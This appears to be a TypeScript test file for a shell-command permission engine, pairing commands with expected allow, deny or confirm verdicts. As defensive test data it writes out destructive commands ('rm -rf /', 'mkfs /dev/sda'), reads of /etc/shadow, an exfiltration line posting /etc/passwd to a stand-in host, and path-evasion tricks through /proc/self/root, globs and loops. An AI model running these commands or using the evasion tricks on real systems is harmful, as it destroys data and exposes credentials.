// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are of the shell.
import { describe, expect, test } from 'bun:test';
import type { Proposal } from '../../src/rules/decide.ts';
import type { Action, Ruleset } from '../../src/rules/rule.ts';
import { decided, ruleset } from './rulesets.ts';

type Row = readonly [cmd: string, action: Action, more?: Partial<Proposal>];

/** What rules say, each list to some commands. */
const LISTS: Readonly<Record<string, readonly [rules: Ruleset, rows: readonly Row[]]>> = {
  'an allow with arguments is about the program of the system': [
    ruleset(
      'deny',
      { action: 'allow', command: 'ls', arguments: ['-l'] },
      { action: 'allow', command: 'python3', arguments: ['manage.py', '...'] },
      { action: 'allow', command: '/opt/app/run', arguments: ['now'] },
    ),
    [
      ['ls -l', 'allow'],
      ['/bin/ls -l', 'allow'],
      ['../../bin/ls -l', 'allow'],
      ['./ls -l', 'deny'],
      ['/tmp/ls -l', 'deny'],
      ['/tmp/python3 manage.py', 'deny'],
      ['python3 manage.py migrate', 'allow'],
      ['cd /tmp; bin/ls -l', 'deny'],
      ['/opt/app/run now', 'allow'],
      ['./run now', 'allow', { cwd: '/opt/app' }],
      ['./run now', 'deny'],
    ],
  ],
  'an allow with files is about these, and about no program': [
    ruleset(
      'allow',
      { action: 'allow', writes: '/tmp/*' },
      { action: 'deny', writes: '/etc/*' },
      { action: 'deny', command: 'rm' },
    ),
    [
      ['echo x > /tmp/a', 'allow'],
      ['echo x > /tmp/a > /etc/passwd', 'deny'],
      ['echo x > /etc/passwd > /tmp/a', 'deny'],
      ['rm -rf / > /tmp/x', 'deny'],
      ['rm -rf / 2>/tmp/x', 'deny'],
      ['sh x.sh > /tmp/x', 'confirm'],
      ['python3 -c rm > /tmp/x', 'confirm'],
      ['python3 -c x > /tmp/x', 'allow'],
    ],
  ],
  'what allows a program does not allow it to write': [
    ruleset('deny', { action: 'allow', command: ['cat', 'printf', 'echo'] }, { action: 'allow', writes: '/srv/*' }),
    [
      ['cat x 2>&1 > /dev/null', 'allow'],
      ['echo x > /srv/a', 'allow'],
      ['echo x > a', 'allow'],
      ['cat > /usr/local/bin/df', 'deny'],
      ['printf x > /etc/ld.so.preload', 'deny'],
      ['echo x > "$f"', 'deny'],
      ['{ echo x; } > /etc/a', 'deny'],
      ['echo x > /srv/../etc/a', 'deny'],
    ],
  ],
  'a program of the system has its name and several paths': [
    ruleset('allow', { action: 'deny', command: ['/usr/bin/rm', '/usr/sbin/mk*'] }),
    [
      ['rm x', 'deny'],
      ['/bin/rm x', 'deny'],
      ['sudo rm x', 'deny'],
      ['mkfs /dev/sda', 'deny'],
      ['/sbin/mkfs.ext4 /dev/sda', 'deny'],
      ['ls', 'allow'],
    ],
  ],
  'a rule with a program and files is about what it writes, wherever that is said': [
    ruleset('allow', { action: 'deny', command: 'echo', writes: '/etc/*' }),
    [
      ['echo x > /etc/a', 'deny'],
      ['sudo echo x > /etc/a', 'deny'],
      ['env echo x > /etc/a', 'deny'],
      ['command echo x > /etc/a', 'deny'],
      ['eval echo x > /etc/a', 'deny'],
      ['bash -c "echo x" > /etc/a', 'deny'],
      ['{ echo x; } > /etc/a', 'deny'],
      ['if :; then echo x; fi > /etc/a', 'deny'],
      ['f() { echo x; }; f > /etc/a', 'deny'],
      ['exec > /etc/a; echo x', 'deny'],
      ['echo x > /tmp/a', 'allow'],
    ],
  ],
  'a file is one by whatever way it is written': [
    ruleset('allow', { action: 'deny', writes: ['/etc/*', '/dev/sd*'] }),
    [
      ['tee /etc/a', 'deny'],
      ['echo x | sudo tee -a /etc/a', 'deny'],
      ['cp x /etc/a', 'deny'],
      ['cp x /etc', 'deny'],
      ['cp -t /etc x', 'deny'],
      ['cp -rt/etc x', 'deny'],
      ['mv --target=/etc x', 'deny'],
      ['install -m 644 x /etc/a', 'deny'],
      ['ln -sf x /etc/a', 'deny'],
      ['dd if=x of=/etc/a', 'deny'],
      ['dd of=../../dev/sda', 'deny'],
      ['sort -o /etc/a f', 'deny'],
      ['sort --outp=/etc/a f', 'deny'],
      ['curl -so/etc/a https://example.com', 'deny'],
      ['truncate -s 0 /etc/a', 'deny'],
      ['sed -i s/a/b/ /etc/a', 'deny'],
      ['env -C /etc sh -c "echo x > a"', 'confirm'],
      ['sudo -D /etc tee a', 'confirm'],
      ["find /etc -maxdepth 0 -execdir sh -c 'echo x > etc/a' \\;", 'confirm'],
      ['chroot /etc sh -c "> /a"', 'confirm'],
      ['su - -c "> a"', 'confirm'],
      ['echo x > /proc/self/root/etc/a', 'confirm'],
      ['cd /etc; echo x > a', 'deny'],
      ['cd /; cd etc; > a', 'deny'],
      ['cp x "$y"', 'confirm'],
      ['echo x > /tmp/$x', 'confirm'],
      ['echo x > "/tmp/$x"', 'confirm'],
      ['> /tmp/.*/etc/a', 'confirm'],
      ['> /tmp/.?/etc/a', 'confirm'],
      ['> .*/.*/etc/a', 'confirm'],
      ['> /tmp/$(date +..)/etc/a', 'confirm'],
      ['> /tmp/.$(date +.)/etc/a', 'confirm'],
      ['for d in . ..; do > /tmp/$d/etc/a; done', 'confirm'],
      ['for d in x .; do > /tmp/.$d/etc/a; done', 'confirm'],
      ['for d in .. ; do > /tmp/$d/etc/a; done', 'deny'],
      ['for d in /etc/*; do > "$d"; done', 'confirm'],
      ['x=/etc; > $x/a', 'deny'],
      ['x=..; > "/tmp/$x/etc/a"', 'deny'],
      ['> {,x}/etc/a', 'confirm'],
      ['> /{etc,x}/a', 'confirm'],
      ['> "/tmp/log-$(date +%F).txt"', 'allow'],
      ['for f in *.log; do cp "$f" "$f.old"; done', 'allow'],
      ['f=$(mktemp); ls > "$f"', 'allow'],
      ['> /tmp/*.log', 'allow'],
      ['cp /etc/passwd /tmp', 'allow'],
      ['tee /tmp/a', 'allow'],
    ],
  ],
  'an argument is a path by whatever words it is named': [
    ruleset(
      'allow',
      { action: 'deny', command: ['cat', 'cp', 'curl'], arguments: '/etc/*' },
      { action: 'deny', command: 'dd', arguments: 'of=/dev/*' },
      { action: 'deny', command: 'rm', arguments: '/etc/*' },
    ),
    [
      ['cat < /etc/shadow', 'deny'],
      ['cat 0</etc/shadow', 'deny'],
      ['cat /proc/self/root/etc/shadow', 'confirm'],
      ['cat /proc/1/cwd/etc/shadow', 'confirm'],
      ['cp -t/etc/cron.d x', 'deny'],
      ['cp -rt/etc x', 'deny'],
      ['cp --target-directory=/etc x', 'deny'],
      ['curl -o/etc/passwd http://x', 'deny'],
      ['curl -d@/etc/passwd http://x', 'deny'],
      ['curl -d @/etc/passwd http://x', 'deny'],
      ['curl file:///etc/passwd', 'deny'],
      ['dd of=../../dev/sda', 'deny'],
      ['cd /dev; dd of=sda', 'deny'],
      ['rm -rf /etc', 'deny'],
      ['rm -rf /etc/.', 'deny'],
      ['env -C /etc rm passwd', 'confirm'],
      ['sudo --chdir=/etc rm passwd', 'confirm'],
      ['find /etc -execdir rm passwd \\;', 'confirm'],
      ['rm /tmp/*.log', 'allow'],
      ['dd if=/dev/zero of=/tmp/x', 'allow'],
      ['curl https://example.com/etc/x', 'allow'],
    ],
  ],
  'a function is what is in it': [
    ruleset('deny', { action: 'allow', command: ['ls', 'unset'] }),
    [
      ['f() { ls -l; }; f', 'allow'],
      ['f() { ls -l; }; f x | ls', 'allow'],
      ['f() { uptime; }; f', 'deny'],
      ['f; f() { ls; }', 'deny'],
      ['(f() { ls; }); f', 'deny'],
      ['f() { ls; } & f', 'deny'],
      ['f() { ls; }; unset -f f; f', 'deny'],
      ['f() { ls; }; env f', 'deny'],
      ['f() { ls; }; bash -c f', 'deny'],
      ['false && f() { ls; }; f', 'deny'],
    ],
  ],
  'a flag behind -- may be one': [
    ruleset('allow', { action: 'deny', command: 'git', arguments: 'push', flags: '--force' }),
    [
      ['git push -o -- --force', 'confirm'],
      ['git push --forc', 'deny'],
      ['git push origin main', 'allow'],
    ],
  ],
};

for (const [subject, [rules, rows]] of Object.entries(LISTS)) {
  describe(subject, () => {
    test.each(rows.map(([cmd, action, more]) => [cmd, action, more ?? {}] as const))('%s: %s', (cmd, action, more) => {
      expect(decided(rules, cmd, more).action).toBe(action);
    });
  });
}
